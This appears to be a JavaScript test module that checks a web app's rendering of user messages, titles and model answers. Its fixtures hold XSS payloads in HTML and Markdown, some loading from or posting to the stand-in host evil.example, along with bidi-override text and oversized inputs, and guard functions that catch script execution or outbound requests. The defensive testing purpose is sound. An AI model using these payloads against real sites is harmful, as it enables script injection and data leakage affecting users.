// What someone may put into a message, a title, a model's answer, a card or a file, to run something,
// to send something away, to make a page look otherwise than it is, or to make it slow.
import assert from "node:assert/strict";

const EVIL = "https://evil.example";

/** Markup and Markdown that would run or load something. Each sets `window.hacked` where it runs. */
export const ACTIVE = [
  "<script>window.hacked=1</script>",
  `<script src=${EVIL}/x.js></script>`,
  "<img src=x onerror=window.hacked=1>",
  `<img src="${EVIL}/pixel.png">`,
  "<svg/onload=window.hacked=1><a xlink:href=javascript:window.hacked=1>x</a></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
  `<iframe src="${EVIL}"></iframe><iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<form action="${EVIL}"><button>Confirmer</button></form>`,
  `<link rel=stylesheet href=${EVIL}/x.css><style>@import "${EVIL}/y.css";</style>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}"><base href="${EVIL}/">`,
  "<details open ontoggle=window.hacked=1>x</details><input autofocus onfocus=window.hacked=1>",
  "</li></ol></main></body><script>window.hacked=1</script>",
  "\"><script>window.hacked=1</script>",
  "' onmouseover='window.hacked=1' x='",
  "</textarea><script>window.hacked=1</script>",
  "</title><script>window.hacked=1</script>",
  "{{constructor.constructor('window.hacked=1')()}} ${window.hacked=1}",
  "[clic](javascript:window.hacked=1)",
  "[clic](JaVa\tScRiPt:window.hacked=1)",
  "[clic](&#106;avascript:window.hacked=1)",
  "[clic](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4=)",
  "[clic](vbscript:window.hacked=1)",
  `[clic](//evil.example "onmouseover=window.hacked=1")`,
  `![image](${EVIL}/pixel.png)`,
  `<javascript:window.hacked=1> <${EVIL}/"onmouseover="window.hacked=1>`,
  `[a]: javascript:window.hacked=1\n\n[a]`,
];

/** Text that reads otherwise than it is, or that no one sees. */
export const DISGUISED = [
  "\u202Egnikoob on\u202C \u2066\u2067isolé",
  "Z\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A\u030B\u030C".repeat(20),
  "\u200B\u200C\u200D\uFEFF\u2060invisible",
  "مرحبا שלום नमस्ते 👩‍👩‍👧‍👦 𝕏",
];

/** What is long or deep. */
export const LARGE = [
  "x".repeat(3_000),
  `${">".repeat(1_500)} profond`,
  `${"- ".repeat(400)}liste`,
  `${"[".repeat(1_500)}a${"](b)".repeat(300)}`,
  `${"*_".repeat(700)}a`,
  `|${"a|".repeat(200)}\n|${"-|".repeat(200)}\n|${"b|".repeat(200)}`,
];

export const ALL = [...ACTIVE, ...DISGUISED, ...LARGE];

/**
 * Watches a page from before its first byte; gives what fails where anything ran or left, `isRunning` while
 * an answer still comes.
 */
export function guard(page, server) {
  const { host } = new URL(server.url);
  const left = [];
  const dialogs = [];
  page.on("request", (request) => {
    const url = new URL(request.url());
    if (url.protocol !== "data:" && url.host !== host) left.push(request.url());
  });
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    dialog.dismiss();
  });
  return async (what, { isRunning = false } = {}) => {
    if (!isRunning) await page.waitForLoadState("networkidle");
    assert.deepEqual(left, [], `${what}: requests that leave`);
    assert.deepEqual(dialogs, [], what);
    assert.ok(new URL(page.url()).host === host, `${what}: ${page.url()}`);
    const found = await page.evaluate(look);
    assert.deepEqual(found, [], what);
  };
}

/** Fails where text that turns its direction around reaches what stands beside it, or is wider than the page. */
export async function assertContained(page, what) {
  await page.evaluate(() => document.querySelectorAll("details").forEach((part) => (part.open = true)));
  const bled = await page.evaluate(bleeding);
  assert.deepEqual(bled, [], `${what}: direction`);
  for (const width of [320, 1280]) {
    await page.setViewportSize({ width, height: 800 });
    const wider = await page.evaluate(
      () => document.documentElement.scrollWidth - document.documentElement.clientWidth);
    assert.ok(wider <= 0, `${what}, ${width} px: ${wider} px too wide`);
  }
}

/** Runs in the page: texts with an override that ends nowhere, beside other texts of their line. */
function bleeding() {
  const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  const found = [];
  for (let text = texts.nextNode(); text; text = texts.nextNode()) {
    const part = text.parentElement;
    if (!/[\u202A-\u202E\u2066-\u2069]/.test(text.data) || !part.checkVisibility()) continue;
    const { display, unicodeBidi } = getComputedStyle(part);
    const isAlone = !part.firstElementChild && [...part.childNodes].filter(({ data }) => data?.trim()).length === 1;
    const isBlock = !display.startsWith("inline") && display !== "contents";
    if (/isolate|plaintext/.test(unicodeBidi) || (isBlock && isAlone) || part.closest("svg, template, textarea")) continue;
    found.push(`${part.localName}.${part.className}: ${text.data.slice(0, 40)}`);
  }
  return found;
}

/** Runs in the page: everything in it that acts and is none of ours. */
function look() {
  const found = [];
  if (window.hacked) found.push("something ran");
  for (const element of document.querySelectorAll("*")) {
    const name = element.localName;
    for (const attribute of element.attributes) {
      if (/^on|^style$|^srcdoc$/i.test(attribute.name)) found.push(`${name} ${attribute.name}`);
    }
    if (/^(img|iframe|object|embed|base|style|audio|video|math)$/.test(name)) found.push(name);
    if (name === "script" && !new URL(element.src).pathname.startsWith("/static/")) found.push(name);
    if (name === "form" && new URL(element.action).host !== location.host) found.push(element.action);
    if (name === "a" && element.hasAttribute("href") && !/^(https?|mailto):$/.test(element.protocol)) {
      found.push(element.href);
    }
    if (name === "meta" && element.httpEquiv) found.push(element.outerHTML);
  }
  return found;
}
